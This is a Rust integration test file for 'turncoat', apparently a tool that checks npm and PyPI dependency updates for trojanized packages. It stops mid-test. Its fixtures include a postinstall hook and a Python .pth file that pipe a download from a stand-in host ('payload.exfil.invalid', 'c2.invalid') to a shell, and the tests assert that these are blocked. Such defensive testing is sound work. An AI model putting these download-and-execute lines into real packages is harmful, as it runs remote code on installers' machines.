//! The `turncoat` binary as a user runs it: arguments, stdout, stderr and exit codes
//! (0 pass, 1 blocked, 2 tool error).
//!
//! Every run gets a cleared environment (a temporary `HOME` and `TMPDIR`, `NO_COLOR=1`,
//! `TURNCOAT_NOW` pinned — honoured only by debug builds, which tests run — no proxy or npm
//! settings) and a temporary `--cache-dir`. Registries
//! are `file://` directories materialised from scenarios, or the registry test server on
//! 127.0.0.1; nothing reaches the network.

#[path = "../../turncoat-registry/tests/support/mod.rs"]
mod support;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::{Value, json};
use turncoat_gate::scenario::{Source, materialize};

const NOW: &str = "2026-11-27T00:00:00Z";

fn repo_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn fixture(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(rel)
}

/// A scratch directory that doubles as `HOME` and `TMPDIR` of the runs.
struct Sandbox {
    dir: tempfile::TempDir,
}

impl Sandbox {
    fn new() -> Sandbox {
        let dir = tempfile::tempdir().unwrap();
        for sub in ["home", "tmp", "cache"] {
            std::fs::create_dir_all(dir.path().join(sub)).unwrap();
        }
        Sandbox { dir }
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn tmp(&self) -> PathBuf {
        self.path().join("tmp")
    }

    /// `turncoat <args> --cache-dir <sandbox cache>` in `cwd`.
    fn run(&self, cwd: &Path, args: &[&str]) -> Output {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_turncoat"));
        cmd.args(args)
            .arg("--cache-dir")
            .arg(self.path().join("cache"))
            .current_dir(cwd)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", self.path().join("home"))
            .env("TMPDIR", self.tmp())
            .env("NO_COLOR", "1")
            .env("TURNCOAT_NOW", NOW)
            .stdin(std::process::Stdio::null());
        cmd.output().expect("run turncoat")
    }
}

fn stdout(o: &Output) -> String {
    String::from_utf8(o.stdout.clone()).expect("stdout is UTF-8")
}

fn stderr(o: &Output) -> String {
    String::from_utf8(o.stderr.clone()).expect("stderr is UTF-8")
}

/// Assert the exit code, showing both streams when it is not the expected one.
#[track_caller]
fn assert_exit(o: &Output, code: i32) {
    assert_eq!(
        o.status.code(),
        Some(code),
        "exit status {:?}\n--- stdout\n{}\n--- stderr\n{}",
        o.status,
        stdout(o),
        stderr(o)
    );
}

/// Replace every `<dir>/<entry>` (a temporary directory created inside `dir`) with `[tmp]`.
fn redact_tmp_entries(text: &str, dir: &Path) -> String {
    let prefix = format!("{}/", dir.display());
    let mut out = String::new();
    let mut rest = text;
    while let Some(i) = rest.find(&prefix) {
        out.push_str(&rest[..i]);
        out.push_str("[tmp]");
        let after = &rest[i + prefix.len()..];
        let end = after
            .find(['/', '"', ' ', '\n', ':'])
            .unwrap_or(after.len());
        rest = &after[end..];
    }
    out.push_str(rest);
    out
}

#[test]
fn every_rule_code_is_unique_kebab_case_and_documented() {
    let rules = turncoat_gate::all_rules();
    assert!(
        rules.len() > 20,
        "expected the rules of every crate, got {}",
        rules.len()
    );
    let mut seen = BTreeSet::new();
    for r in &rules {
        assert!(
            turncoat_finding::is_kebab_case(r.code),
            "{:?} is not kebab-case",
            r.code
        );
        assert!(seen.insert(r.code), "duplicate code {}", r.code);
        assert!(!r.summary.trim().is_empty(), "{} has no summary", r.code);
        assert!(!r.doc.trim().is_empty(), "{} has no doc", r.code);
        assert!(!r.group.is_empty(), "{} has no group", r.code);
    }
}

#[test]
fn demo_blocks_the_takeover_and_exits_0() {
    let sb = Sandbox::new();
    // Static judgement only: detonation evidence carries per-run random names (below).
    let out = sb.run(sb.path(), &["demo", "--no-detonate"]);
    assert_exit(&out, 0);
    assert!(stderr(&out).contains("as expected"), "{}", stderr(&out));
    let text = redact_tmp_entries(&stdout(&out), &sb.tmp());
    assert!(
        !text.contains(&sb.path().display().to_string()),
        "unredacted path:\n{text}"
    );
    insta::assert_snapshot!("demo_human", text);
}

#[test]
fn demo_pypi_blocks_the_python_takeover_and_exits_0() {
    let sb = Sandbox::new();
    let out = sb.run(sb.path(), &["demo", "--pypi", "--format", "json"]);
    assert_exit(&out, 0);
    assert!(stderr(&out).contains("as expected"), "{}", stderr(&out));
    let report: Value = serde_json::from_slice(&out.stdout).expect("stdout is JSON");
    assert_eq!(report["ecosystem"], "pypi");
    let pkg = |name: &str| {
        report["packages"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["name"] == name)
            .cloned()
            .unwrap()
    };
    assert_eq!(pkg("humanize-lite")["verdict"], "block");
    assert!(
        pkg("humanize-lite")["findings"]
            .to_string()
            .contains("py-env-exfiltration")
    );
    assert_eq!(pkg("tinyfmt")["verdict"], "pass");
}

#[test]
fn demo_detonates_by_default_and_names_the_dns_exfiltration() {
    let sb = Sandbox::new();
    let out = sb.run(sb.path(), &["demo", "--format", "json"]);
    assert_exit(&out, 0);
    let report: Value = serde_json::from_slice(&out.stdout).expect("stdout is JSON");
    let pkg = |name: &str| {
        report["packages"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["name"] == name)
            .cloned()
            .unwrap()
    };
    let seed = pkg("secure-data-sanitizer");
    let net = seed["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["code"] == "detonation-network")
        .unwrap_or_else(|| panic!("no detonation-network finding: {seed:#}"));
    let first = &net["evidence"][0];
    assert_eq!(first["path"], "detonation:postinstall", "{net:#}");
    assert!(
        first["snippet"]
            .as_str()
            .unwrap()
            .ends_with("TXT via the sandbox resolver")
            && first["snippet"]
                .as_str()
                .unwrap()
                .contains(".exfil.invalid"),
        "{net:#}"
    );
    let benign = pkg("tiny-case");
    assert!(
        !benign["findings"].to_string().contains("detonation-"),
        "the benign update does nothing in the sandbox: {benign:#}"
    );
}

#[test]
fn demo_json_parses_and_blocks_the_trojanized_package() {
    let sb = Sandbox::new();
    let out = sb.run(sb.path(), &["demo", "--format", "json"]);
    assert_exit(&out, 0);
    let report: Value = serde_json::from_slice(&out.stdout).expect("stdout is JSON");
    let verdict = |name: &str| {
        report["packages"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["name"] == name)
            .map(|p| p["verdict"].clone())
    };
    assert_eq!(verdict("secure-data-sanitizer"), Some(json!("block")));
    assert_eq!(verdict("tiny-case"), Some(json!("pass")));
    assert_eq!(report["summary"]["block"], 1);
}

#[test]
fn explain_prints_a_rule_and_hints_on_an_unknown_code() {
    let sb = Sandbox::new();
    let out = sb.run(sb.path(), &["explain", "new-install-script"]);
    assert_exit(&out, 0);
    insta::assert_snapshot!("explain_new_install_script", stdout(&out));

    let out = sb.run(sb.path(), &["explain", "nope"]);
    assert_exit(&out, 2);
    let err = stderr(&out);
    assert!(err.contains("unknown finding code \"nope\""), "{err}");
    assert!(err.contains("turncoat explain --list"), "{err}");

    // A near miss names the candidates.
    let out = sb.run(sb.path(), &["explain", "install-scripts"]);
    assert_exit(&out, 2);
    assert!(stderr(&out).contains("did you mean: "), "{}", stderr(&out));
}

#[test]
fn explain_list_names_every_code_once() {
    let sb = Sandbox::new();
    let out = sb.run(sb.path(), &["explain", "--list"]);
    assert_exit(&out, 0);
    let text = stdout(&out);
    let listed: Vec<&str> = text
        .lines()
        .filter_map(|l| l.split_whitespace().next())
        .collect();
    let unique: BTreeSet<&str> = listed.iter().copied().collect();
    assert_eq!(
        unique.len(),
        listed.len(),
        "a code is listed twice:\n{text}"
    );
    let expected: BTreeSet<&str> = turncoat_gate::all_rules().iter().map(|r| r.code).collect();
    assert_eq!(unique, expected);
}

#[test]
fn lockfile_list_json() {
    let sb = Sandbox::new();
    let dir = repo_root().join("crates/turncoat-lockfile/tests/fixtures/npm/git");
    let out = sb.run(
        &dir,
        &["lockfile", "list", "package-lock.json", "--format", "json"],
    );
    assert_exit(&out, 0);
    let text = stdout(&out);
    let v: Value = serde_json::from_str(&text).expect("JSON");
    assert_eq!(v["format"], "package-lock-v3");
    insta::assert_snapshot!("lockfile_list_npm_git_json", text);
}

#[test]
fn lockfile_list_rejects_an_unknown_format() {
    let sb = Sandbox::new();
    std::fs::write(sb.path().join("deps.txt"), "left-pad 1.3.0\n").unwrap();
    let out = sb.run(sb.path(), &["lockfile", "list", "deps.txt"]);
    assert_exit(&out, 2);
    let err = stderr(&out);
    assert!(err.contains("deps.txt"), "{err}");
    for format in [
        "package-lock.json",
        "yarn.lock",
        "pnpm-lock.yaml",
        "bun.lock",
    ] {
        assert!(err.contains(format), "{format} not named: {err}");
    }
    assert!(out.stdout.is_empty(), "{}", stdout(&out));
}

#[test]
fn lockfile_lint_blocks_a_plain_http_url() {
    let sb = Sandbox::new();
    let out = sb.run(
        &fixture("insecure-url"),
        &["lockfile", "lint", "package-lock.json"],
    );
    assert_exit(&out, 1);
    let text = stdout(&out);
    assert!(text.contains("insecure-url"), "{text}");
    assert!(text.contains("left-pad@1.3.0"), "{text}");
    // The https package next to it is not flagged.
    assert!(!text.contains("is-number"), "{text}");
}

#[test]
fn diff_reports_the_line_of_a_bad_policy() {
    let sb = Sandbox::new();
    let lock = std::fs::read(fixture("insecure-url/package-lock.json")).unwrap();
    for side in ["base", "head"] {
        std::fs::create_dir_all(sb.path().join(side)).unwrap();
        std::fs::write(sb.path().join(side).join("package-lock.json"), &lock).unwrap();
    }
    std::fs::write(
        sb.path().join("head/turncoat.toml"),
        "[gate]\ncooldown-days = 2\n\n[levels]\nnew-install-script = \"deny\"\nno-such-rule = \"warn\"\n",
    )
    .unwrap();
    let out = sb.run(
        sb.path(),
        &["diff", "base/package-lock.json", "head/package-lock.json"],
    );
    assert_exit(&out, 2);
    let err = stderr(&out);
    assert!(err.contains("turncoat.toml:6:"), "{err}");
    assert!(err.contains("no-such-rule"), "{err}");
}

/// `git` in `dir` with a fixed identity and no user or system configuration.
fn git(sb: &Sandbox, dir: &Path, args: &[&str]) {
    let out = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", sb.path().join("home"))
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_AUTHOR_NAME", "Test")
        .env("GIT_AUTHOR_EMAIL", "test@example.com")
        .env("GIT_COMMITTER_NAME", "Test")
        .env("GIT_COMMITTER_EMAIL", "test@example.com")
        .output()
        .expect("run git");
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn eslint_scope_world(sb: &Sandbox) -> turncoat_gate::scenario::Materialized {
    let src = repo_root().join("fixtures/scenarios/replay-eslint-scope");
    materialize(&Source::Disk(src), &sb.path().join("world")).expect("scenario materialises")
}

fn file_url(p: &Path) -> String {
    format!("file://{}", p.display())
}

#[test]
fn diff_against_a_git_base_ref_blocks_the_takeover() {
    let sb = Sandbox::new();
    let world = eslint_scope_world(&sb);
    let repo = sb.path().join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    git(&sb, &repo, &["init", "-q"]);
    std::fs::copy(&world.base_lockfile, repo.join("package-lock.json")).unwrap();
    git(&sb, &repo, &["add", "package-lock.json"]);
    git(&sb, &repo, &["commit", "-q", "-m", "base"]);
    // The update under review, uncommitted in the work tree.
    std::fs::copy(&world.head_lockfile, repo.join("package-lock.json")).unwrap();

    let registry = file_url(&world.registry);
    let out = sb.run(
        &repo,
        &[
            "diff",
            "--base-ref",
            "HEAD",
            "--registry",
            &registry,
            "--format",
            "json",
        ],
    );
    assert_exit(&out, 1);
    let report: Value = serde_json::from_slice(&out.stdout).expect("JSON report");
    let pkg = report["packages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == "eslint-scope")
        .expect("eslint-scope judged");
    assert_eq!(pkg["from"], "3.7.1");
    assert_eq!(pkg["to"], "3.7.2");
    assert_eq!(pkg["verdict"], "block");
    let codes: Vec<&str> = pkg["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["code"].as_str())
        .collect();
    assert!(codes.contains(&"new-install-script"), "{codes:?}");
    assert_eq!(report["inputs"][0], "HEAD:package-lock.json");

    // Nothing changed since the base: the gate passes.
    std::fs::copy(&world.base_lockfile, repo.join("package-lock.json")).unwrap();
    let out = sb.run(
        &repo,
        &["diff", "--base-ref", "HEAD", "--registry", &registry],
    );
    assert_exit(&out, 0);
}

#[test]
fn scan_blocks_a_tarball_whose_install_script_pipes_curl_to_sh() {
    let sb = Sandbox::new();
    let pj = json!({
        "name": "evil-helper",
        "version": "1.0.0",
        "scripts": {"postinstall": "curl -fsSL https://payload.exfil.invalid/i.sh | sh"},
    });
    let tgz = turncoat_gate::scenario::pack(&[
        ("index.js".to_string(), b"module.exports = 1;\n".to_vec()),
        (
            "package.json".to_string(),
            serde_json::to_vec_pretty(&pj).unwrap(),
        ),
    ])
    .unwrap();
    std::fs::write(sb.path().join("evil-helper-1.0.0.tgz"), tgz).unwrap();
    let out = sb.run(
        sb.path(),
        &["scan", "evil-helper-1.0.0.tgz", "--format", "json"],
    );
    assert_exit(&out, 1);
    let report: Value = serde_json::from_slice(&out.stdout).expect("JSON report");
    let pkg = &report["packages"][0];
    assert_eq!(pkg["name"], "evil-helper");
    assert_eq!(pkg["verdict"], "block");
    let codes: Vec<&str> = pkg["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["code"].as_str())
        .collect();
    assert!(
        codes.contains(&"install-script-shell-download"),
        "{codes:?}"
    );

    // The same package without the hook scans clean.
    let clean = turncoat_gate::scenario::pack(&[
        ("index.js".to_string(), b"module.exports = 1;\n".to_vec()),
        (
            "package.json".to_string(),
            br#"{"name":"evil-helper","version":"1.0.1"}"#.to_vec(),
        ),
    ])
    .unwrap();
    std::fs::write(sb.path().join("helper-1.0.1.tgz"), clean).unwrap();
    let out = sb.run(sb.path(), &["scan", "helper-1.0.1.tgz"]);
    assert_exit(&out, 0);
}

#[test]
fn verify_lists_every_locked_package() {
    let sb = Sandbox::new();
    let world = eslint_scope_world(&sb);
    let registry = file_url(&world.registry);
    let lock = world.head_lockfile.display().to_string();
    let out = sb.run(
        sb.path(),
        &["verify", &lock, "--registry", &registry, "--format", "json"],
    );
    assert_exit(&out, 0);
    let v: Value = serde_json::from_slice(&out.stdout).expect("JSON");
    let got: BTreeSet<(String, String)> = v["packages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            // Scenario registries carry no registry signatures and no attestations.
            assert_eq!(p["signature"], "missing", "{p}");
            assert_eq!(p["provenance"], "absent", "{p}");
            (
                p["name"].as_str().unwrap().to_string(),
                p["version"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let locked = turncoat_lockfile::read(&world.head_lockfile).unwrap();
    let expected: BTreeSet<(String, String)> = locked
        .registry_packages()
        .map(|p| (p.name.clone(), p.version.clone()))
        .collect();
    assert_eq!(got, expected);
    assert!(got.len() >= 3, "{got:?}");
}

/// A registry on 127.0.0.1 serving `pad-sig` 1.0.0 and 1.0.1 signed by the test npm key and
/// 1.0.2 without a signature, a lockfile pinning 1.0.2, and the key document.
/// Returns (registry, lockfile path, keys path).
fn signature_downgrade_world(sb: &Sandbox) -> (support::TestRegistry, PathBuf, PathBuf) {
    let kit = turncoat_attest::testkit::Kit::new();
    let reg = support::TestRegistry::start();
    let tgzs: Vec<(String, Vec<u8>)> = ["1.0.0", "1.0.1", "1.0.2"]
        .iter()
        .map(|v| (v.to_string(), support::package_tgz("pad-sig", v)))
        .collect();
    let refs: Vec<(&str, &[u8])> = tgzs
        .iter()
        .map(|(v, t)| (v.as_str(), t.as_slice()))
        .collect();
    let mut doc = reg.publish("pad-sig", &refs);
    for (v, tgz) in &tgzs[..2] {
        let integrity = turncoat_npm::Integrity::sha512_of(tgz).to_string();
        let msg = turncoat_attest::signed_message("pad-sig", v, &integrity);
        doc["versions"][v.as_str()]["dist"]["signatures"] =
            json!([{"keyid": turncoat_attest::testkit::Kit::NPM_KEYID, "sig": kit.npm_sign(&msg)}]);
    }
    reg.set("/pad-sig", support::Reply::json(&doc));
    let lock = sb.path().join("proj/package-lock.json");
    write_lock(
        &lock,
        &[(
            "pad-sig",
            "1.0.2",
            format!("{}pad-sig/-/pad-sig-1.0.2.tgz", reg.url()),
            turncoat_npm::Integrity::sha512_of(&tgzs[2].1).to_string(),
        )],
    );
    let keys = sb.path().join("keys.json");
    std::fs::write(&keys, kit.npm_keys_json(None)).unwrap();
    (reg, lock, keys)
}

#[test]
fn verify_blocks_a_signature_downgrade_and_applies_the_policy() {
    let sb = Sandbox::new();
    let (reg, lock, keys) = signature_downgrade_world(&sb);
    let url = reg.url();
    let verify = |extra: &[&str]| {
        let mut args = vec![
            "verify",
            lock.to_str().unwrap(),
            "--registry",
            &url,
            "--keys",
            keys.to_str().unwrap(),
        ];
        args.extend_from_slice(extra);
        sb.run(sb.path(), &args)
    };
    let out = verify(&["--format", "json"]);
    assert_exit(&out, 1);
    let v: Value = serde_json::from_slice(&out.stdout).expect("JSON");
    let pkg = &v["packages"][0];
    assert_eq!(pkg["signature"], "missing", "{pkg}");
    assert_eq!(pkg["verdict"], "block", "{pkg}");
    assert_eq!(pkg["findings"][0]["code"], "signature-missing", "{pkg}");
    let human = stdout(&verify(&[]));
    assert!(human.contains("signature-missing"), "{human}");

    let policy = |name: &str, text: &str| {
        let p = sb.path().join(name);
        std::fs::write(&p, text).unwrap();
        p.display().to_string()
    };
    // A level override in --policy changes verify's outcome…
    let warn = policy("warn.toml", "[levels]\nsignature-missing = \"warn\"\n");
    assert_exit(&verify(&["--policy", &warn]), 0);
    // …so does an exception that names the code…
    let named = policy(
        "named.toml",
        "[[exception]]\npackage = \"pad-sig@1.0.2\"\ncodes = [\"signature-missing\"]\nreason = \"mirror\"\nexpires = \"2099-01-01\"\n",
    );
    assert_exit(&verify(&["--policy", &named]), 0);
    // …but not one without codes, nor one for another version.
    let blanket = policy(
        "blanket.toml",
        "[[exception]]\npackage = \"pad-sig@1.0.2\"\nreason = \"reviewed\"\nexpires = \"2099-01-01\"\n",
    );
    assert_exit(&verify(&["--policy", &blanket]), 1);
    let other = policy(
        "other.toml",
        "[[exception]]\npackage = \"pad-sig@1.0.1\"\ncodes = [\"signature-missing\"]\nreason = \"r\"\nexpires = \"2099-01-01\"\n",
    );
    assert_exit(&verify(&["--policy", &other]), 1);
}

#[test]
fn verify_fails_closed_on_a_keys_file_without_keys() {
    let sb = Sandbox::new();
    let (reg, lock, _) = signature_downgrade_world(&sb);
    let empty = sb.path().join("empty-keys.json");
    std::fs::write(&empty, r#"{"keys":[]}"#).unwrap();
    let out = sb.run(
        sb.path(),
        &[
            "verify",
            lock.to_str().unwrap(),
            "--registry",
            &reg.url(),
            "--keys",
            empty.to_str().unwrap(),
        ],
    );
    assert_exit(&out, 2);
    assert!(stderr(&out).contains("no keys"), "{}", stderr(&out));
}

/// A package-lock.json v3 pinning `pins` (name, version, resolved, integrity).
fn write_lock(path: &Path, pins: &[(&str, &str, String, String)]) {
    let mut packages = serde_json::Map::new();
    let deps: serde_json::Map<String, Value> = pins
        .iter()
        .map(|(n, v, _, _)| (n.to_string(), json!(v)))
        .collect();
    packages.insert(
        String::new(),
        json!({"name": "app", "version": "1.0.0", "dependencies": deps}),
    );
    for (name, version, resolved, integrity) in pins {
        packages.insert(
            format!("node_modules/{name}"),
            json!({"version": version, "resolved": resolved, "integrity": integrity}),
        );
    }
    let doc = json!({"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": true, "packages": packages});
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, serde_json::to_string_pretty(&doc).unwrap()).unwrap();
}

#[test]
fn diff_fails_closed_with_exit_2_when_the_registry_does_not_serve_a_locked_version() {
    let sb = Sandbox::new();
    let reg = support::TestRegistry::start();
    let old = support::package_tgz("pad-gone", "1.0.0");
    reg.publish("pad-gone", &[("1.0.0", &old)]);
    let url = |name: &str, v: &str| {
        format!(
            "{}{}",
            reg.url(),
            support::tarball_path(name, v).trim_start_matches('/')
        )
    };
    let sri = |b: &[u8]| turncoat_npm::Integrity::sha512_of(b).to_string();
    let base = sb.path().join("base/package-lock.json");
    write_lock(
        &base,
        &[("pad-gone", "1.0.0", url("pad-gone", "1.0.0"), sri(&old))],
    );
    // 1.0.1 was unpublished: the packument no longer lists it.
    let gone = support::package_tgz("pad-gone", "1.0.1");
    let head = sb.path().join("head/package-lock.json");
    write_lock(
        &head,
        &[("pad-gone", "1.0.1", url("pad-gone", "1.0.1"), sri(&gone))],
    );
    let args = [
        "diff",
        "base/package-lock.json",
        "head/package-lock.json",
        "--registry",
    ];
    let out = sb.run(sb.path(), &[&args[..], &[reg.url().as_str()]].concat());
    assert_exit(&out, 2);
    let err = stderr(&out);
    assert!(err.starts_with("error: pad-gone@1.0.1: "), "{err}");
    assert!(err.contains("does not serve this locked version"), "{err}");
    assert!(
        out.stdout.is_empty(),
        "no report on a tool error: {}",
        stdout(&out)
    );
    assert!(reg.hits("/pad-gone") >= 1);

    // A package the registry does not know at all.
    write_lock(
        &head,
        &[
            ("pad-gone", "1.0.0", url("pad-gone", "1.0.0"), sri(&old)),
            (
                "pad-nowhere",
                "2.0.0",
                url("pad-nowhere", "2.0.0"),
                sri(b"x"),
            ),
        ],
    );
    let out = sb.run(sb.path(), &[&args[..], &[reg.url().as_str()]].concat());
    assert_exit(&out, 2);
    assert!(
        stderr(&out).contains("pad-nowhere@2.0.0"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn an_offline_verdict_says_it_rests_on_the_cache() {
    let sb = Sandbox::new();
    let reg = support::TestRegistry::start();
    let v1 = support::package_tgz("pad-cached", "1.0.0");
    let v2 = support::package_tgz("pad-cached", "1.0.1");
    reg.publish("pad-cached", &[("1.0.0", &v1), ("1.0.1", &v2)]);
    let url = |v: &str| {
        format!(
            "{}{}",
            reg.url(),
            support::tarball_path("pad-cached", v).trim_start_matches('/')
        )
    };
    let sri = |b: &[u8]| turncoat_npm::Integrity::sha512_of(b).to_string();
    write_lock(
        &sb.path().join("base/package-lock.json"),
        &[("pad-cached", "1.0.0", url("1.0.0"), sri(&v1))],
    );
    write_lock(
        &sb.path().join("head/package-lock.json"),
        &[("pad-cached", "1.0.1", url("1.0.1"), sri(&v2))],
    );
    let lockfiles = ["diff", "base/package-lock.json", "head/package-lock.json"];
    let registry = reg.url();
    // Online: asked the registry, so nothing rests on the cache.
    let online = sb.run(
        sb.path(),
        &[
            &lockfiles[..],
            &["--format", "json", "--registry", registry.as_str()],
        ]
        .concat(),
    );
    assert_exit(&online, 0);
    let report: serde_json::Value = serde_json::from_str(&stdout(&online)).expect("JSON");
    assert!(
        report["packages"][0].get("rests_on_cache").is_none(),
        "{report:#}"
    );
    // Offline: the same verdict, from the cache the online run filled, and it says so.
    let offline = sb.run(
        sb.path(),
        &[
            &lockfiles[..],
            &[
                "--format",
                "json",
                "--offline",
                "--registry",
                registry.as_str(),
            ],
        ]
        .concat(),
    );
    assert_exit(&offline, 0);
    let report: serde_json::Value = serde_json::from_str(&stdout(&offline)).expect("JSON");
    let used = report["packages"][0]["rests_on_cache"]
        .as_array()
        .unwrap_or_else(|| panic!("no rests_on_cache: {report:#}"));
    assert!(
        used.iter()
            .any(|u| u["document"] == "packument of pad-cached"),
        "{report:#}"
    );
    let human = sb.run(
        sb.path(),
        &[
            &lockfiles[..],
            &["--offline", "--registry", registry.as_str()],
        ]
        .concat(),
    );
    assert!(
        stdout(&human)
            .contains("judged from cached registry documents without asking the registry"),
        "{}",
        stdout(&human)
    );
}

#[test]
fn python_lockfiles_are_listed_and_linted_but_not_gated() {
    let sb = Sandbox::new();
    let pipenv = repo_root().join("crates/turncoat-lockfile/tests/fixtures/pypi/pipenv");
    let out = sb.run(&pipenv, &["lockfile", "list", ".", "--format", "json"]);
    assert_exit(&out, 0);
    let v: Value = serde_json::from_str(&stdout(&out)).expect("JSON");
    assert_eq!(v["format"], "pipfile-lock-v6");
    assert_eq!(v["ecosystem"], "pypi");
    let h = "a".repeat(64);
    std::fs::write(
        sb.path().join("requirements.txt"),
        format!(
            "--extra-index-url https://u:s3cret@corp.example/simple\n\
             Django==4.2 --hash=sha256:{h}\ndjango==4.2 --hash=sha256:{h}\n"
        ),
    )
    .unwrap();
    let out = sb.run(
        sb.path(),
        &["lockfile", "lint", "requirements.txt", "--format", "json"],
    );
    assert_exit(&out, 1);
    let text = stdout(&out);
    for code in [
        "unallowed-index",
        "extra-index-url",
        "pep503-name-collision",
    ] {
        assert!(text.contains(code), "{code}: {text}");
    }
    assert!(!text.contains("s3cret"), "{text}");
    // --allow-host lifts the index host rule, not the dependency-confusion one.
    let out = sb.run(
        sb.path(),
        &[
            "lockfile",
            "lint",
            "requirements.txt",
            "--allow-host",
            "corp.example",
        ],
    );
    assert_exit(&out, 0);
    assert!(stdout(&out).contains("extra-index-url"));
    // The gate reads Python lockfiles too: nothing changed, nothing fetched, nothing judged.
    let out = sb.run(sb.path(), &["diff", "requirements.txt", "requirements.txt"]);
    assert_exit(&out, 0);
    assert!(stdout(&out).contains("0 packages"), "{}", stdout(&out));
}

fn write_wheel(path: &Path, files: &[(&str, &str)]) {
    use std::io::Write;
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (p, d) in files {
        w.start_file(*p, zip::write::SimpleFileOptions::default())
            .unwrap();
        w.write_all(d.as_bytes()).unwrap();
    }
    std::fs::write(path, w.finish().unwrap().into_inner()).unwrap();
}

#[test]
fn diff_of_two_wheels_blocks_a_new_pth_and_says_pypi() {
    let sb = Sandbox::new();
    let dir = sb.path();
    let old = dir.join("demo-1.0.0-py3-none-any.whl");
    let new = dir.join("demo-1.0.1-py3-none-any.whl");
    write_wheel(&old, &[("demo/__init__.py", "x = 1\n")]);
    write_wheel(
        &new,
        &[
            ("demo/__init__.py", "x = 1\n"),
            (
                "demo.pth",
                "import os; os.system('curl https://c2.invalid | sh')\n",
            ),
        ],
    );
    let o = sb.run(
        dir,
        &[
            "diff",
            old.to_str().unwrap(),
            new.to_str().unwrap(),
            "--format",
            "json",
        ],
    );
    assert_exit(&o, 1);
    let report: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(report["ecosystem"], "pypi");
    assert_eq!(report["packages"][0]["name"], "demo");
    let codes: Vec<&str> = report["packages"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["code"].as_str())
        .collect();
    assert!(codes.contains(&"py-pth-exec"), "{codes:?}");
    // The version-only control passes.
    let o = sb.run(dir, &["diff", old.to_str().unwrap(), old.to_str().unwrap()]);
    assert_exit(&o, 0);
}

/// One release of a directory index: name, version, wheel members, upload time.
type Dist<'a> = (&'a str, &'a str, Vec<(&'a str, &'a str)>, &'a str);

/// A directory index (`file://…/simple/`) with the given releases, one wheel each; returns the
/// index URL and each file's sha256.
fn python_index(
    root: &Path,
    dists: &[Dist<'_>],
) -> (String, std::collections::BTreeMap<String, String>) {
    use sha2::Digest as _;
    let mut hashes = std::collections::BTreeMap::new();
    let mut pages: std::collections::BTreeMap<&str, Vec<serde_json::Value>> = Default::default();
    std::fs::create_dir_all(root.join("files")).unwrap();
    for (name, version, files, uploaded) in dists {
        let filename = format!("{name}-{version}-py3-none-any.whl");
        let path = root.join("files").join(&filename);
        write_wheel(&path, files);
        let sha = sha2::Sha256::digest(std::fs::read(&path).unwrap())
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect::<String>();
        hashes.insert(filename.clone(), sha.clone());
        pages.entry(name).or_default().push(serde_json::json!({
            "filename": filename,
            "url": format!("../../files/{filename}"),
            "hashes": {"sha256": sha},
            "upload-time": uploaded,
        }));
    }
    for (name, files) in pages {
        let dir = root.join("simple").join(name);
        std::fs::create_dir_all(&dir).unwrap();
        let page =
            serde_json::json!({"meta": {"api-version": "1.1"}, "name": name, "files": files});
        std::fs::write(dir.join("index.json"), page.to_string()).unwrap();
    }
    (format!("file://{}/simple/", root.display()), hashes)
}

#[test]
fn python_lockfiles_are_gated_release_against_release() {
    let sb = Sandbox::new();
    let dir = sb.path();
    let pth = "import os; os.system('curl https://c2.invalid | sh')\n";
    let (index, h) = python_index(
        &dir.join("mirror"),
        &[
            (
                "demo",
                "1.0.0",
                vec![("demo/__init__.py", "x = 1\n")],
                "2026-01-01T00:00:00Z",
            ),
            (
                "demo",
                "1.0.1",
                vec![("demo/__init__.py", "x = 1\n"), ("demo.pth", pth)],
                "2026-11-01T00:00:00Z",
            ),
            (
                "demo",
                "1.0.2",
                vec![("demo/__init__.py", "x = 2\n")],
                "2026-11-02T00:00:00Z",
            ),
            (
                "newdep",
                "0.9.0",
                vec![("newdep/__init__.py", "y = 1\n")],
                "2026-01-01T00:00:00Z",
            ),
            (
                "newdep",
                "1.0.0",
                vec![("newdep/__init__.py", "y = 2\n")],
                "2026-06-01T00:00:00Z",
            ),
        ],
    );
    let req = |pins: &[(&str, &str)]| {
        pins.iter()
            .map(|(n, v)| {
                format!(
                    "{n}=={v} --hash=sha256:{}\n",
                    h[&format!("{n}-{v}-py3-none-any.whl")]
                )
            })
            .collect::<String>()
    };
    std::fs::create_dir_all(dir.join("base")).unwrap();
    std::fs::create_dir_all(dir.join("head")).unwrap();
    std::fs::write(dir.join("base/requirements.txt"), req(&[("demo", "1.0.0")])).unwrap();
    // The takeover release, plus a newly added dependency (judged against its own previous
    // release on the index).
    std::fs::write(
        dir.join("head/requirements.txt"),
        req(&[("demo", "1.0.1"), ("newdep", "1.0.0")]),
    )
    .unwrap();
    let o = sb.run(
        dir,
        &[
            "diff",
            "base/requirements.txt",
